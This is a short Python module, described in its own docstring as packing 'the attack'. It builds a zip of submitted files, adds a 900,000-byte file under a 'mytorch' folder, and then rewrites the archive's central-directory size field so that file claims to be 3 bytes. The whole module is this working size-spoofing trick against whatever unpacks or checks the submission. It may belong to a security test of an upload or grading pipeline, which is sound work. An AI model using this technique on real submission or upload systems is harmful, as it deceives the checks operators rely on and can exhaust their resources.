"""Packs the attack: gets the honest files and a folder, gives what is handed in."""

import struct
import zipfile


def pack(files, folder):
    with zipfile.ZipFile(folder / "work.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        for path, content in files.items():
            archive.writestr(path, content)
        archive.writestr("mytorch/zeros.py", bytes(900_000))
    data = bytearray((folder / "work.zip").read_bytes())
    struct.pack_into("<I", data, data.rindex(b"mytorch/zeros.py") - 46 + 24, 3)
    (folder / "work.zip").write_bytes(data)
    return folder / "work.zip"
